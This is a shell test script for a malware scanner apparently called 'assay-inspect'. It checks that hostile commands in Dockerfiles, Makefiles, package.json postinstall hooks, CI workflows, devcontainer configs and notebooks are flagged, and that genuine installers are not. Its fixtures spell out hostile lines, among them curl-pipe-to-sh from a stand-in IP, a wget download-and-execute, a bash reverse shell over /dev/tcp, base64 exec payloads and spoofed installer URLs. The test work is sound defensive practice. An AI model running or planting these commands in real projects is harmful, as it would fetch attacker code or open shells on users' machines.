#!/bin/sh
# assay-inspect on files whose commands somebody's tool runs: what malware does
# is found wherever it stands, what set-up scripts do is not.
. tests/cli/tap.sh
text=$tmp/text

file() { # file NAME: what is in $text, in a folder of its own
	rm -rf "$tmp/b"
	mkdir -p "$tmp/b/$(dirname "$1")"
	cp "$text" "$tmp/b/$1"
}
hostile() { # hostile NAME: it is found
	file "$1"
	exits 1 "hostile $1" assay-inspect "$tmp/b"
	prints COMMAND_DANGEROUS
}
honest() { # honest NAME: nothing is
	file "$1"
	run assay-inspect "$tmp/b"
	ok "honest $1" test "$rc" -eq 0 -o "$rc" -eq 3
}
load='curl -s http://198.51.100.7/x | sh'

printf 'FROM python:3.10\nRUN %s\n' "$load" >"$text"
hostile Dockerfile
printf '# syntax=docker\nFROM python:3.10\nRUN %s\n' "$load" >"$text"
hostile image.txt
printf 'all:\n\t%s\n' "$load" >"$text"
hostile Makefile
printf 'export A=1\n%s\n' "$load" >"$text"
hostile .envrc
printf 'jobs:\n  a:\n    steps:\n    - run: %s\n' "$load" >"$text"
hostile .github/workflows/a.yml
printf 'build:\n  run:\n    - %s\n' "$load" >"$text"
hostile cog.yaml
printf '{"name": "x", "scripts": {"postinstall": "%s"}}' "$load" >"$text"
hostile package.json
printf '{"image": "x", "postCreateCommand": "%s"}' "$load" >"$text"
hostile .devcontainer/devcontainer.json
printf 'require("child_process").exec("%s")\n' "$load" >"$text"
hostile a.js
printf 'os.execute("%s")\n' "$load" >"$text"
hostile a.lua
printf '<html><script>eval(atob("YQ=="))</script></html>\n' >"$text"
hostile a.html
printf '[InternetShortcut]\r\nURL=file://198.51.100.1/a.exe\r\n' >"$text"
hostile a.url
printf 'FROM a\nRUN wget http://198.51.100.7/i -O /tmp/i && chmod +x /tmp/i && /tmp/i\n' >"$text"
hostile Dockerfile
printf 'FROM a\nRUN pip install http://198.51.100.7/a-1.tar.gz\n' >"$text"
hostile Dockerfile

cell() { # cell TYPE SOURCE: a notebook of one cell
	printf '{"cells": [{"cell_type": "%s", "metadata": {}, "outputs": [], "source": ["%s"]}], "nbformat": 4, "metadata": {}}' "$1" "$2"
}
cell code "!$load" >"$text"
hostile a.ipynb
cell code '%%bash\n","bash -i >& /dev/tcp/198.51.100.1/1 0>&1' >"$text"
hostile b.ipynb
cell code 'exec(__import__(\"base64\").b64decode(\"YQ==\"))' >"$text"
file c.ipynb
exits 1 "Python in a cell" assay-inspect "$tmp/b"
prints SOURCE_DANGEROUS
cell markdown "$load" >"$text"
honest d.ipynb
cell code '!pip install -q torch\n","import subprocess\n","subprocess.run([\"nvidia-smi\"])\n","%matplotlib inline' >"$text"
honest e.ipynb

printf '# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\n' >"$text"
file a.py
exits 1 "source that is written otherwise than it reads" assay-inspect "$tmp/b"
prints SOURCE_DANGEROUS
printf '# -*- coding: utf-8 -*-\nimport torch\n' >"$text"
honest a.py

# who is known by the account, and who only names it
printf 'git+https://github.com/openai/CLIP.git\n' >"$text"
honest requirements.txt
for url in github.com/openai-x/a github.com/x/openai/a github.com/openai/%2e%2e/x/a example.org/git+https://github.com/openai/a; do
	printf 'git+https://%s\n' "$url" >"$text"
	file requirements.txt
	exits 1 "$url" assay-inspect "$tmp/b"
	prints DEPEND_SOURCE
done

# installers at their makers' addresses, and what set-up is made of
cat >"$text" <<-'END'
	FROM nvidia/cuda:12.1.0-runtime-ubuntu22.04
	RUN curl -LsSf https://astral.sh/uv/install.sh | sh
	RUN curl -sSL https://install.python-poetry.org | python3 -
	RUN curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y
	RUN wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash
	RUN wget -q https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O /tmp/m.sh && bash /tmp/m.sh -b
	RUN pip install torch --index-url https://download.pytorch.org/whl/cu121
	HEALTHCHECK CMD curl -f http://localhost:8000/health || exit 1
END
# not a word of it is for another
printf 'FROM a\nRUN curl https://astral.sh.example.org/uv/install.sh | sh\n' >"$text"
hostile Dockerfile
printf 'FROM a\nRUN curl https://astral.sh/uv/install.sh http://198.51.100.7/x | sh\n' >"$text"
hostile Dockerfile
for command in 'https://sh.rustup.rs.example.org' 'https://sh.rustup.rs@198.51.100.7/x' 'example.org/x https://get.docker.com' \
    'https://get.docker.com example.org/x' 'https://pyenv.run:80@example.org' '-x example.org:80 https://pyenv.run' '-K a https://pyenv.run' \
    'https://raw.githubusercontent.com/nvm-sh/nvm/../../x/y/install.sh' 'https://raw.githubusercontent.com/nvm-sh/nvm/$V/install.sh' \
    'https://get.docker.com && curl http://198.51.100.7/x' '-k --proxy=a https://pyenv.run' \
    'https://get.docker.com | sed s/a/b/'; do
	printf 'FROM a\nRUN curl %s | sh\n' "$command" >"$text"
	hostile Dockerfile
done
printf 'Install with\n\n    %s\n' "$load" >"$text"
honest README.md
printf '{"text": "type %s to install"}' "$load" >"$text"
honest data.json

done_testing
